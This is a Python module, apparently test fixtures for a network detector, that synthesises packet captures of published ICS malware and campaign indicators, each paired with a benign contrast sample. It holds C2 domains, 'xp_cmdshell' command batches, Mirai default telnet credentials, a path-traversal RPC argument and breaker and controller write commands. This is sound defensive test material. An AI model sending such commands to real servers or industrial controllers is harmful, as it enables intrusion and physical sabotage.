"""What malware families and campaigns show on the wire, written from published facts: names, addresses and a few octets, no code of theirs."""

import struct
import uuid

from tools import dnp3, dns, fins, iec104, iec61850, mms, modbus, mqtt, opc, pcom, s7, s7plus, web
from tools.modbus import adu
from tools.session import Host, Tape, TcpSession, engineer, hmi, laptop, plc, rtu, scada, server
from tools.smb import Client, bind, call, smb1, transaction, wide
from tools.udp import UdpSession
from wire.exchange import Captures

outside = Host("outside", "203.0.113.9", "02:4c:59:00:00:fe")
everybody = Host("everybody", "10.20.0.255", "ff:ff:ff:ff:ff:ff")


def captures():
    out = Captures()
    names(out)
    pages(out)
    shares(out)
    ports(out)
    controllers(out)
    substations(out)
    brokers(out)
    return out


def names(out):
    def asked(name, text):
        out.udp(name, 53, dns.query(7, text, dns.a), dns.answer(7, text, dns.a, flags=0x8183), client=hmi, server=server, sport=50053)

    asked("stuxnet-name", "www.mypremierfutbol.com")
    asked("vpnfilter-name", "toknowall.com")
    asked("ekans-name", "MDS.HONDA.COM")
    asked("iocontrol-name", "uuokhhfsdlk.tylarion867mino.com")
    asked("conficker-name", "trafficconverter.biz")
    asked("wannacry-name", "www.iuqerfsodp9ifjaposdfjhgosurijfaewrwergwea.com")
    asked("badrabbit-name", "1dnscontrol.com")
    asked("sunburst", "7sbvaemscs0mc925tb99.appsync-api.eu-west-1.avsvmcloud.com")
    asked("other-name", "futbol.com.example")
    out.tcp("iocontrol-tls", 8883, web.client_hello("uuokhhfsdlk.tylarion867mino.com"), client=rtu, server=server)
    out.tcp("tls-other", 8883, web.client_hello("broker.plant.example"), client=rtu, server=server)


def pages(out):
    found = web.response(200, b"<html>tank 7</html>")

    def fetch(name, target, host="10.20.0.40", answer=found, **more):
        out.tcp(name, 80, web.request("GET", target, host), answer, client=hmi, server=server, **more)

    def post(name, target, body, **headers):
        out.tcp(name, 80, web.request("POST", target, "10.20.0.40", body, **headers), found, client=hmi, server=server)

    fetch("web-page", "/search?q=pump&page=7")
    post("web-form", "/set.php", b"id=7&value=640")
    fetch("stuxnet-report", "/index.php?data=" + "66a96e28270b6b4b" * 5)
    post("havex-report", "/blog/page.php?id=61AB9DE0E1F0&v1=038&v2=170393861&q=5265882854508efcf958f979e4", b"")
    fetch("havex-task", "/news.php", answer=web.response(200, b"<html><body>No data!<!--havexQUJDREVGhavex--></body></html>"))
    post("blackenergy", "/l/f2.php", b"id=PLANT_1234ABCD&bid=YnVpbGQ3&nm=0&cn=0&num=7")
    fetch("cimplicity", r"/CimWeb/gefebt.exe?\\198.51.100.7\public\xv.bcl")
    part = b'Content-Disposition: form-data; name="f"; filename="moxa.rom"\r\nContent-Type: application/octet-stream'
    form = b"--p\r\n" + part + b"\r\n\r\n" + bytes(64) + b"\r\n--p--\r\n"
    post("converter-firmware", "/upgrade", form, Content_Type="multipart/form-data; boundary=p")
    fetch("vpnfilter-album", "/user/amandaseyfried1/library", "photobucket.com")
    fetch("omron-cgi", "/cgi-bin/ecat.fcgi")
    fetch("conficker-report", "/search?q=0&aq=7")
    fetch("wannacry-page", "/", "www.iuqerfsodp9ifjaposdfjhgosurijfaewrwergwea.com")


def shares(out):
    def session(name, *steps, share=r"\\10.20.0.40\projects", kind=1):
        tape = Tape()
        talk = TcpSession(tape, engineer, server, 445, 49811)
        talk.open()
        client = Client(talk)
        client.negotiate()
        client.sign_in()
        client.connect(share, 5, kind)
        for step in steps:
            step(client)
        talk.close()
        out[name] = tape.packets

    def written(name, file):
        session(name, lambda c: c.open(file, 5), lambda c: c.write(b"all your files", 5), lambda c: c.close(5))

    def piped(name, pipe, *messages):
        def speak(client):
            client.open(pipe, 5)
            for message in messages:
                client.write(message, 5)

        session(name, speak, share=r"\\10.20.0.40\IPC$", kind=2)

    borrowed, service = "000204e1-0000-0000-c000-000000000046", "4b324fc8-1670-01d3-1278-5a47bf6ee188"
    piped("stuxnet-peers", "browser", bind(uuid.UUID(borrowed), 1))
    piped("service-pipe", "srvsvc", bind(uuid.UUID(service), 3))
    up, plain = wide("\\x\\..\\..\\y"), wide("\\projects\\pump7")
    piped("conficker-overflow", "srvsvc", bind(uuid.UUID(service), 3), call(31, bytes(24) + up + bytes(24)))
    piped("canonical-path", "srvsvc", bind(uuid.UUID(service), 3), call(31, bytes(24) + plain + bytes(24)))
    session("wannacry-share", share=r"\\192.168.56.20\IPC$", kind=2)
    written("notpetya-file", r"perfc.dat")
    written("badrabbit-file", r"infpub.dat")
    written("note-lockergoga", "README_LOCKED.txt")
    written("note-ekans", "Fix-Your-Files.txt")
    written("note-ryuk", "RyukReadMe.html")
    written("note-wannacry", r"pump7\main.ap15.WNCRY")
    written("note-others", "Restore-My-Files.txt")

    def rename(client):  # [MS-SMB2] 2.2.39
        name = wide("a.locked")
        ask = struct.pack("<HBBIHHIQQ", 33, 1, 10, 20 + len(name), 96, 0, 0, 1, 0) + bytes(16) + struct.pack("<I", len(name)) + name
        client.exchange(17, ask, b"\2\0", tree=5)

    session("mass-rename", *[rename] * 120)
    session("rename-once", rename)

    def ping(tape, source, target, sport):  # the question to DoublePulsar, answered as by a clean host
        talk = TcpSession(tape, source, target, 445, sport)
        talk.open()
        talk.exchange(smb1(0x72, octets=b"\x02NT LM 0.12\0", tree=0), smb1(0x72, struct.pack("<H", 0) + bytes(32), answer=True, tree=0))
        talk.exchange(smb1(0x32, transaction([0x0E], b""), bytes(13), multiplex=65), smb1(0x32, answer=True, status=0xC0000002, multiplex=65))
        talk.close()

    tape = Tape()
    ping(tape, laptop, server, 51111)
    ping(tape, server, hmi, 51112)
    out["worm-chain"] = tape.packets


def ports(out):
    def opened(name, *ends, gap_ms=100):
        tape = Tape()
        for number, (client, host, port) in enumerate(ends):
            session = TcpSession(tape, client, host, port, 52000 + number)
            session.open()
            session.close()
            tape.wait(gap_ms)
        out[name] = tape.packets

    opened("havex-ports", *[(hmi, server, port) for port in (502, 102, 11234, 12401)])
    opened("one-port", (hmi, server, 12401), (hmi, server, 11234))
    many = [Host(f"host{n}", f"10.20.2.{n}", f"02:4c:59:00:02:{n:02x}") for n in range(1, 71)]
    opened("smb-sweep", *[(laptop, host, 445) for host in many])
    opened("smb-once", (laptop, server, 445))
    opened("dragonfly", (hmi, outside, 445))

    def login(user):  # [MS-TDS] 2.2.6.4: only what is looked at
        body = bytes(86) + wide("HMI-05") + wide(user) + wide("CC_Plant_R")
        return struct.pack(">BBHHBB", 16, 1, len(body) + 8, 0, 1, 0) + body

    def batch(text):  # 2.2.6.7
        return struct.pack(">BBHHBB", 1, 1, 8 + 2 * len(text), 0, 1, 0) + wide(text)

    told = struct.pack(">BBHHBB", 4, 1, 21, 52, 1, 0) + bytes([0xFD]) + bytes(12)
    out.tcp("stuxnet-database", 1433, login("WinCCConnect"), told, client=hmi, server=server)
    out.tcp("database-login", 1433, login("historian"), told, batch("SELECT level FROM tanks"), told, client=hmi, server=server)
    shell = login("sa"), told, batch("EXEC xp_cmdshell 'whoami'"), told
    out.tcp("database-shell", 1433, *shell, client=laptop, server=server)

    crafted = b"\x11\x49" + bytes(14) + b"\x28\x9e"
    out.udp("siprotec", 50000, crafted, client=laptop, server=rtu, sport=50001)
    out.udp("siprotec-other", 50000, crafted[:-1] + b"\0", client=laptop, server=rtu, sport=50001)
    out.udp("netmanage", 27127, bytes.fromhex("5be800000000"), client=laptop, server=everybody, sport=27126)
    out.udp("netmanage-by-master", 27127, bytes.fromhex("5be800000000"), client=engineer, server=everybody, sport=27126)
    magic = b"\xff" * 6 + bytes.fromhex("024c59000011") * 16

    def woken(name, times):
        tape = Tape()
        for _ in range(times):
            UdpSession(tape, laptop, everybody, 7, 50007).client(magic)
            tape.wait(200)
        out[name] = tape.packets

    woken("wake-many", 9)
    woken("wake-one", 1)
    # EN 13757-2: SND_UD with random data, REQ_UD2 as a master polls.
    command = b"\x68\x05\x05\x68\x53\xfd\x51\x0f\x0f\xbf\x16"
    out.tcp("fuxnet", 10001, *[(0, command)] * 130, client=laptop, server=rtu)
    out.tcp("mbus-read", 10001, *[(0, command)] * 3, client=laptop, server=rtu)
    prompt = (1, b"\xff\xfd\x01login: "), (0, b"root\r\n"), (1, b"Password: ")
    shell = (0, b"12345\r\n"), (1, b"\r\n# "), (0, b"/bin/busybox MIRAI\r\n")
    out.tcp("mirai", 23, *prompt, *shell, client=laptop, server=rtu)
    out.tcp("mirai-password", 23, *prompt, (0, b"xc3511\r\n"), client=laptop, server=rtu)


def controllers(out):
    def talk(name, *pairs, client=laptop):
        messages = [adu(number // 2 + 1, part, 1) for number, part in enumerate(part for pair in pairs for part in pair)]
        out.tcp(name, 502, *messages, client=client)

    read = modbus.read(3, 0, 2), modbus.read_words_reply(3, [1, 2])
    write = modbus.write_register(4, 7), modbus.write_register(4, 7)
    identity = bytes([43, 14, 1, 0]), bytes([43, 14, 1, 1, 0, 0, 1, 0, 3]) + b"ACM"
    talk("modbus-identify-write", identity, write)
    talk("modbus-identify", identity, read)
    several = bytes([16]) + struct.pack("!HHBHH", 4, 2, 4, 7, 7), bytes([16]) + struct.pack("!HH", 4, 2)
    talk("frostygoop", read, several)
    talk("frostygoop-read", read)

    def load(name, kind, number):
        tape = Tape()
        tape.resolve(engineer, plc)
        talk = s7.Talk(TcpSession(tape, engineer, plc, s7.port, 49702))
        talk.open(remote=0x0202)
        talk.call(s7.request_download_param(s7.file_name(kind, number, "P"), 200, 100), bytes([0x1A]), b"", error=0)
        talk.session.close()
        out[name] = tape.packets

    load("stuxnet-blocks", s7.data_block, 890)
    load("other-block", s7.data_block, 89)

    other = Host("plc2", "10.20.0.13", "02:4c:59:00:00:13")

    def program(tape, client, cpu, sport):
        talk = s7plus.Talk(TcpSession(tape, client, cpu, s7plus.port, sport))
        talk.open("ES-0451_7830796")
        block = s7plus.object_of(0x8A0C0001, 2578, [(233, s7plus.text("Mixer")), (2521, s7plus.uint(1)), (2580, s7plus.blob(bytes(64)))])
        ask = struct.pack("!I", s7plus.program) + s7plus.udint(0) + bytes(4) + block
        talk.exchange(3, s7plus.create_object, ask, b"\x01" + s7plus.number(0x8A0C0001))
        talk.close()

    tape = Tape()
    program(tape, engineer, s7plus.cpu, 51033)
    out["plc-loaded"] = list(tape.packets)
    for number in range(8):
        session = TcpSession(tape, s7plus.cpu, Host("x", f"10.20.0.{100 + number}", f"02:4c:59:00:00:{100 + number:02x}"), 102, 51100 + number)
        session._send(0, 2)
        tape.wait(100)
    out["plc-scan"] = list(tape.packets)
    tape = Tape()
    program(tape, engineer, s7plus.cpu, 51033)
    program(tape, s7plus.cpu, other, 51034)
    out["plc-worm"] = tape.packets

    def scan(name, times):
        tape = Tape()
        for number in range(times):
            host = Host("x", f"10.20.0.{100 + number}", f"02:4c:59:00:00:{100 + number:02x}")
            UdpSession(tape, laptop, host, 9600, 9600).exchange(fins.frame(0x0501, b"\0"), fins.response(0x0501, b"NJ501-1300".ljust(40)))
            tape.wait(100)
        out[name] = tape.packets

    scan("fins-scan", 15)
    scan("fins-identity", 1)

    def searched(name, client):  # a name service request to everybody
        datagram = bytes([0xC5, 0x6B, 0x40, 3, 0, 0x33]) + bytes.fromhex("2ddc0a14000b") + bytes.fromhex("c0d20a140008") + b"\0\0"
        out.udp(name, 1740, datagram + struct.pack("<HHI", 0xC202, 0x0400, 0x4711), client=client, server=everybody, sport=1743)

    searched("codesys-scan", laptop)
    searched("codesys-scan-by-master", engineer)

    def message(kind, body=b""):
        octets = struct.pack("<HH", kind, len(body)) + body
        value = 0
        for octet in octets:
            value ^= octet
            for _ in range(8):
                value = value >> 1 ^ 0xA001 if value & 1 else value >> 1
        return octets + struct.pack("<H", value)

    def command(way, code, data=b""):
        return message(5, bytes([way, way, code, 1, 0, 0]) + struct.pack("<HH", code + 11 + len(data), 10 + len(data)) + data)

    def safety(name, code, data, answer, told=b"", client=engineer):
        out.udp(name, 1502, message(1), message(2), command(0, code, data), command(1, answer, told), sport=49380, client=client)

    safety("triton-implant", 0x1D, b"\x17\xff" + struct.pack("<II", 4, 0x1000), 0x96, bytes(16))
    safety("triton-status", 0x1D, b"", 0x96, bytes(16))
    safety("triton-program", 0x37, bytes(16), 0x66, client=laptop)
    out.udp("triton-search", 1502, message(6), client=engineer, server=everybody, sport=1502)

    clock = pcom.ascii_message(1, "00RC"), pcom.ascii_message(1, "00RC0030120228112623", True)
    out.tcp("unitronics-from-outside", pcom.port, *clock, client=outside)
    out.tcp("unitronics-inside", pcom.port, *clock)

    def outstation(name, *asks):
        conversation = dnp3.Conversation()
        for function, objects, answer in asks:
            conversation.ask(function, objects, answer, 0)
            conversation.wait(100)
        tape = Tape()
        session = TcpSession(tape, laptop, rtu, dnp3.port, 49801)
        session.open()
        conversation.on_tape(session)
        session.close()
        out[name] = tape.packets

    classes = dnp3.every(*(dnp3.classes[n] for n in (1, 2, 3)))
    switch = dnp3.direct_operate, dnp3.crob(0, 0x81), dnp3.crob(0, 0x81)
    outstation("maroochy", (dnp3.disable_unsolicited, classes, b""), switch)
    outstation("dnp3-by-stranger", switch)


def substations(out):
    def opc_items(name, client, items):
        tape = Tape()
        session = TcpSession(tape, client, server, 49171, 50100)
        session.open()
        session.exchange(opc.bind(1, [(0, opc.item_mgt, 0)]), opc.bind_ack(1, 1))
        session.exchange(opc.request(2, 0, 3, opc.add_items(items)), opc.response(2, 0, opc.add_answer(range(7001, 7001 + len(items)))))
        session.close()
        out[name] = tape.packets

    breaker = ["E1/Q01/CSWI1/Pos/ctlOperOn", "E1/Q01/CSWI1/Pos/ctlOperOff"]
    opc_items("industroyer-opc", laptop, breaker)
    opc_items("opc-items-by-master", scada, breaker)

    def listed(name, client):
        tape = Tape()
        session = TcpSession(tape, client, server, 135, 50101)
        session.open()
        interface = uuid.UUID("13486d50-4821-11d2-a494-3cb306c10000")
        session.exchange(opc.bind(1, [(0, interface, 0)]), opc.bind_ack(1, 1))
        session.exchange(opc.request(2, 0, 3, struct.pack("<II", 1, 1) + bytes(24)), opc.response(2, 0, bytes(16)))
        session.close()
        out[name] = tape.packets

    listed("havex-list", laptop)
    listed("opc-list-by-master", scada)

    ied = Host("ied", "10.20.0.31", "02:4c:59:00:00:31")
    domain = "AA1J1Q01A1LD0"

    def iec61850_talk(name, *steps):
        tape = Tape()
        conversation = mms.Talk(TcpSession(tape, laptop, ied, mms.port, 50411))
        conversation.open()
        for step in steps:
            step(conversation)
        conversation.close()
        out[name] = tape.packets

    def names_listed(c):  # ISO 9506-2 8.2: getNameList of named variables in a domain
        ask = mms.context(1, mms.context(0, mms.primitive(0, b"\0")), mms.context(1, mms.primitive(1, domain.encode())))
        answer = mms.context(1, mms.context(0, mms.visible("CSWI1$CO$Pos$Oper")), mms.primitive(1, b"\0"))
        c.ask(ask, answer)

    def operated(c):
        c.ask(mms.write((f"{domain}/CSWI1$CO$Pos$Oper", mms.control(mms.boolean(True), c.ns, 1))), mms.write_answer(mms.success))

    iec61850_talk("industroyer-mms", names_listed, operated)
    iec61850_talk("mms-control-by-stranger", operated)

    def link(name, *steps, start=True, before=None, client=scada):
        conversation = iec104.Conversation()
        if start:
            conversation.start()
        for step in steps:
            step(conversation)
            conversation.wait(100)
        tape = Tape()
        if before:
            before(tape)
        session = TcpSession(tape, client, rtu, iec104.port, 49703)
        session.open()
        conversation.on_tape(session)
        session.close()
        out[name] = tape.packets

    def order(c):
        c.order(45, 10, iec104.command(1))

    link("iec104-command", order)
    link("iec104-command-by-stranger", order, client=laptop)
    link("industroyer2", lambda c: c.test(), lambda c: c.start(), order, start=False, client=laptop)

    def entered(tape):
        session = TcpSession(tape, laptop, scada, 1433, 50900)
        session.open()
        session.client(struct.pack(">BBHHBB", 1, 1, 58, 0, 1, 0) + wide("EXEC xp_cmdshell 'whoami'"))
        session.close()

    link("cosmicenergy", order, before=entered)


def brokers(out):
    def said(name, topic):
        out.tcp(name, mqtt.port, mqtt.connect("pump7"), mqtt.connack, mqtt.publish(topic, b"{}"), client=rtu, server=server)

    said("iocontrol-topic", "8a1b2c3d-0011-2233-4455-66778899aabb/hello")
    said("mqtt-topic", "plant/pump7/hello")
